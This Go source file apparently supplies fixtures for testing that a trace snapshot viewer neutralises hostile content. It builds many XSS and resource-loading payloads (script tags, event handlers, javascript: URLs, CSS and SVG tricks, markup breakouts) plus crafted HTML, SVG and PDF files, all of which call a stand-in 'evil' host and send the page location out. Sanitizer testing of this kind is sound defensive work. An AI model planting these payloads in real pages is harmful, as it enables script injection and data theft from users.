// Package crafted is what a trace may hold that wants to do harm: script, and
// addresses to load from, in every place that can hold them. Tests show it in
// every screen and see that nothing of it runs.
package crafted

import "strings"

// El makes a node of a snapshot.
func El(name string, attrs map[string]string, children ...any) []any {
	if attrs == nil {
		attrs = map[string]string{}
	}
	return append([]any{name, attrs}, children...)
}

// Nodes returns nodes with script, and addresses at evil, in every place
// that can hold them. EVIL stands for the address and for the script.
func Nodes(evil string) []any {
	script := "new Image().src='" + evil + "/ran?" + "'+location;fetch('" + evil + "/fetch')"
	js := "javascript:" + script
	at := func(path string) string { return evil + "/" + path }
	svgDoc := `<svg xmlns="http://www.w3.org/2000/svg" onload="` + script + `"><script>` + script + `</script></svg>`
	htmlDoc := "<script>" + script + "</script><img src=x onerror=\"" + script + "\">"
	m := func(kv ...string) map[string]string {
		a := map[string]string{}
		for i := 0; i+1 < len(kv); i += 2 {
			a[kv[i]] = kv[i+1]
		}
		return a
	}
	nodes := []any{
		El("SCRIPT", nil, script), El("script", m("src", at("s1")), script), El("ScRiPt", nil, script), El("svg", nil, El("script", m("href", at("s2")), script)),
		El("svg", nil, El("SCRIPT", m("xlink:href", at("s3")))),
		El("IMG", m("src", "x", "onerror", script, "ONERROR", script, "oNeRror", script)),
		El("BODY", m("onload", script, "background", at("bg"))),
		El("DIV", m("onclick", script, "onmouseenter", script, "onanimationstart", script, "style", "animation:x 1s", "on focus", script, "x\" onfocus=\""+script, "1")),
		El("IFRAME", m("src", js)), El("IFRAME", m("src", at("frame1"))), El("IFRAME", m("srcdoc", htmlDoc)), El("IFRAME", m("SRCDOC", htmlDoc)),
		El("IFRAME", m("src", "data:text/html,"+htmlDoc)), El("IFRAME", m("src", "/snapshot/"+at("x"))), El("IFRAME", m("src", "/snapshot/../../evil\" onload=\""+script)),
		El("IFRAME", nil, "</iframe>"+htmlDoc), El("FRAME", m("src", at("frame2"))), El("FRAMESET", m("onload", script), El("FRAME", m("src", js))),
		El("OBJECT", m("data", at("object"), "type", "text/html")), El("OBJECT", m("data", "data:text/html,"+htmlDoc)), El("OBJECT", m("classid", at("classid"), "codebase", evil)),
		El("EMBED", m("src", at("embed"))), El("EMBED", m("src", "data:image/svg+xml,"+svgDoc)), El("APPLET", m("archive", at("applet"), "code", "x")),
		El("PARAM", m("name", "movie", "value", at("param"))), El("PORTAL", m("src", at("portal"))), El("FENCEDFRAME", m("src", at("fenced"))),
		El("META", m("http-equiv", "refresh", "content", "0;url="+at("meta"))), El("META", m("HTTP-EQUIV", "Refresh", "content", "0;url="+js)),
		El("META", m("name", "referrer", "content", "unsafe-url")), El("META", m("http-equiv", "Content-Security-Policy", "content", "default-src *")),
		El("META", m("name", "viewport", "content", "width=1\"><script>"+script+"</script>")),
		El("BASE", m("href", evil+"/base/", "target", "_top")),
		El("LINK", m("rel", "stylesheet", "href", at("css1"))), El("LINK", m("rel", "icon", "href", at("icon"))), El("LINK", m("rel", "prefetch", "href", at("prefetch"))),
		El("LINK", m("rel", "preload", "as", "script", "href", at("preload"))), El("LINK", m("rel", "modulepreload", "href", at("module"))),
		El("LINK", m("rel", "dns-prefetch preconnect", "href", evil)), El("LINK", m("rel", "prerender", "href", at("prerender"))), El("LINK", m("rel", "import", "href", at("import"))),
		El("LINK", m("rel", "manifest", "href", at("manifest"))), El("LINK", m("rel", "stylesheet", "href", "data:text/css,@import '"+at("css2")+"'")),
		El("LINK", m("rel", "stylesheet", "href", js)), El("LINK", m("rel", "expect", "blocking", "render", "href", "#never")),
		El("STYLE", nil, "@import '"+at("css3")+"';@import url("+at("css4")+");@\\69mport \""+at("css5")+"\";body{background:url("+at("css6")+")}"),
		El("STYLE", nil, "@font-face{font-family:evil;src:url("+at("font1")+")}*{font-family:evil;list-style:url("+at("css7")+");cursor:url("+at("css8")+"),auto}"),
		El("STYLE", nil, "div{background:u\\72l("+at("css9")+");background-image:image-set('"+at("css10")+"' 1x);width:expression("+script+");behavior:url("+at("css11")+");-moz-binding:url("+at("css12")+")}"),
		El("STYLE", nil, ":root{--u:'"+at("css13")+"';--v:url("+at("css14")+")}p{background:image-set(var(--u) 1x);background:var(--v);content:url('"+at("css15")+"')}"),
		El("STYLE", nil, "</style><script>"+script+"</script>"), El("STYLE", nil, "<!--</style><img src="+at("css16")+">"), El("STYLE", nil, "a{b:'</sty", "le><script>"+script+"</script>'}"),
		El("STYLE", nil, "x{background:url("+at("css17")+"\n)}y{background:url( '"+at("css18")+"' )}z{background:URL("+at("css19")+")}w{background:-webkit-image-set(url("+at("css20")+") 1x)}"),
		El("STYLE", nil, "@namespace url("+at("ns")+");@charset \"utf-7\";@document url("+at("doc")+"){}q{filter:url("+at("css21")+"#f);mask:url("+at("css22")+");clip-path:url("+at("css23")+"#c)}"),
		El("STYLE", m("src", at("style"))), El("P", m("style", "background:url("+at("inline1")+");background:\\75rl("+at("inline2")+");background:url(\""+at("inline3")), "p"),
		El("svg", nil, El("style", nil, "</style><img src='"+at("svgstyle")+"' onerror='"+script+"'>", "*{fill:url("+at("svgcss")+")}&#60;img src=x>")),
		El("svg", nil, El("style", nil, "x{y:url&#40;"+at("svgcss2")+"&#41;}<img src="+at("svgcss3")+">")),
		El("IMG", m("src", at("img1"))), El("IMG", m("srcset", at("img2")+" 1x, "+at("img3")+" 2x")), El("IMG", m("__playwright_current_src__", at("img4"))),
		El("IMG", m("lowsrc", at("img5"), "dynsrc", at("img6"), "longdesc", at("img7"), "attributionsrc", at("img8"))), El("IMAGE", m("src", at("img9"))), El("image", m("href", at("img10"))),
		El("PICTURE", nil, El("SOURCE", m("srcset", at("img11"))), El("IMG", m("src", at("img12")))), El("INPUT", m("type", "image", "src", at("img13"), "formaction", js)),
		El("IMG", m("src", "//"+strings.TrimPrefix(evil, "http://")+"/img14")), El("IMG", m("src", "\x01 "+at("img15"))), El("IMG", m("src", "ht\ntp:"+strings.TrimPrefix(at("img16"), "http:"))),
		El("VIDEO", m("src", at("video"), "poster", at("poster"), "autoplay", "", "onloadstart", script), El("SOURCE", m("src", at("source"))), El("TRACK", m("src", at("track"), "default", ""))),
		El("AUDIO", m("src", at("audio"), "autoplay", ""), El("SOURCE", m("src", at("source2")))), El("BGSOUND", m("src", at("bgsound"))),
		El("TABLE", m("background", at("table")), El("TD", m("background", at("td")))),
		El("A", m("href", js, "ping", at("ping"), "target", "_top", "download", "x", "id", "link1"), "link"), El("A", m("href", at("link")), "link"), El("AREA", m("href", at("area"))),
		El("FORM", m("action", at("form"), "method", "post"), El("INPUT", m("name", "q", "autofocus", "", "onfocus", script)), El("BUTTON", m("formaction", at("formaction"), "type", "submit"), "send")),
		El("FORM", m("action", js), El("INPUT", m("type", "submit", "formaction", js))), El("ISINDEX", m("action", js)), El("KEYGEN", m("autofocus", "", "onfocus", script)),
		El("NOSCRIPT", nil, El("IMG", m("src", at("noscript1"))), "<img src="+at("noscript2")+">"), El("TEMPLATE", nil, El("IMG", m("src", at("template"), "onerror", script))),
		El("X-HOST", nil, El("template", m("__playwright_shadow_root_", "open"), El("IMG", m("src", at("shadow1"), "onerror", script)), El("SCRIPT", nil, script),
			El("template", m("__playwright_style_sheet_", "@import '"+at("shadow2")+"';:host{background:url("+at("shadow3")+")}</style><script>"+script+"</script>")))),
		El("DIV", nil, El("TEMPLATE", m("shadowrootmode", "open"), El("SCRIPT", nil, script))),
		El("svg", m("onload", script), El("image", m("href", at("svg1"), "xlink:href", at("svg2"))), El("use", m("href", at("svg3")+"#x")), El("use", m("href", "data:image/svg+xml,"+svgDoc+"#x")),
			El("a", m("href", js), El("text", nil, "x")), El("feImage", m("href", at("svg4"))), El("rect", m("fill", "url("+at("svg5")+"#f)", "filter", "u\\72l("+at("svg6")+"#f)", "mask", "url('"+at("svg7")+"')")),
			El("animate", m("attributeName", "href", "to", js, "begin", "0s")), El("set", m("attributeName", "xlink:href", "to", at("svg8"))), El("set", m("attributeName", "onload", "to", script)),
			El("foreignObject", nil, El("IFRAME", m("src", js)), El("IMG", m("src", at("svg9")))), El("handler", m("type", "text/javascript"), script)),
		El("math", nil, El("maction", m("actiontype", "statusline#"+at("math"), "xlink:href", js), El("mi", nil, "x")), El("mtext", nil, El("TABLE", nil, El("mglyph", nil, El("style", nil, "<img src="+at("math2")+" onerror="+script+">"))))),
		El("a onload="+script, nil, "x"), El("img/src="+at("name1"), nil), El("x><script>"+script+"</script>", nil), El("x-a\" onclick=\""+script, nil), El("!--", nil, "x"), El("?xml", nil), El("/div", nil), El("", nil), El("x-\u00e9<b", nil), El("x-é", m("a=b", "c"), "ok"),
		El("XMP", nil, "</xmp><script>"+script+"</script>"), El("PLAINTEXT", nil, "x"), El("NOEMBED", nil, "</noembed>"+htmlDoc), El("NOFRAMES", nil, "</noframes>"+htmlDoc), El("LISTING", nil, htmlDoc),
		El("TEXTAREA", m("__playwright_value_", "</textarea>"+htmlDoc)), El("TITLE", nil, "</title>"+htmlDoc), El("TITLE", nil, El("IMG", m("src", at("title")))), El("TEXTAREA", nil, El("SCRIPT", nil, script)),
		El("SELECT", nil, El("OPTION", m("__playwright_selected_", "true"), "</select>"+htmlDoc)), El("INPUT", m("__playwright_value_", "\"><script>"+script+"</script>")),
		El("CANVAS", m("__playwright_bounding_rect__", `{"left":"0);background:url(`+at("canvas")+`","top":0,"right":10,"bottom":10}`)), El("CANVAS", m("__playwright_bounding_rect__", `{"left":0,"top":0,"right":10,"bottom":10}`), htmlDoc),
		El("DIV", m("__playwright_scroll_top_", "1px);background:url("+at("scroll")+")", "__playwright_scroll_left_", "5", "style", "overflow:auto;height:10px")),
		El("HTML", m("manifest", at("appcache"))), El("DIALOG", m("__playwright_dialog_open_", "modal", "onclose", script), htmlDoc), El("DETAILS", m("open", "", "ontoggle", script)), El("MARQUEE", m("onstart", script), "x"),
		El("BUTTON", m("popovertarget", "x", "commandfor", "x", "command", "show-modal", "interestfor", "x")), El("DIV", m("xmlns", "http://www.w3.org/1999/xhtml", "xml:base", evil, "data-x", "\"'><img src="+at("data")+">")),
		El("IMG", m("src", "EVILRESOURCE.svg")), El("LINK", m("rel", "stylesheet", "href", "evil.css")), El("IFRAME", m("src", "/snapshot/frame@child")),
	}
	return nodes
}

// Resources returns resources of all types that can hold script, by name.
func Resources(evil string) map[string]string {
	script := "new Image().src='" + evil + "/res';fetch('" + evil + "/resfetch');location='" + evil + "/nav'"
	html := "<html><head><meta http-equiv=refresh content='0;url=" + evil + "/refresh'><script>" + script + "</script></head><body onload=\"" + script + "\"><img src='" + evil + "/img'>" +
		"<iframe src='" + evil + "/iframe'></iframe><object data='" + evil + "/obj'></object><link rel=stylesheet href='" + evil + "/css'></body></html>"
	svg := `<?xml version="1.0"?><?xml-stylesheet href="` + evil + `/xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="` + script + `">` +
		`<script>` + script + `</script><image href="` + evil + `/svgimg" width="5" height="5"/><style>@import '` + evil + `/svgcss';</style>` +
		`<foreignObject width="5" height="5"><body xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=` + evil + `/svgrefresh"/><iframe src="` + evil + `/svgframe"/></body></foreignObject></svg>`
	pdf := "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(" + evil + "/pdf)>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>"
	return map[string]string{
		"evil.html": html, "evil.htm": html, "evil.xhtml": strings.Replace(html, "<html>", `<html xmlns="http://www.w3.org/1999/xhtml">`, 1), "evil.dat": html, "evil": html, "evil.mht": "Content-Type: text/html\n\n" + html,
		"evil.svg": svg, "evil.xml": svg, "evil.pdf": pdf, "evil.js": script, "evil.png": html, "evil.jpeg": svg,
		"evil.css": "@import '" + evil + "/rescss1';body{background:url(" + evil + "/rescss2)}@import url(http://page.test/evil.css);",
	}
}
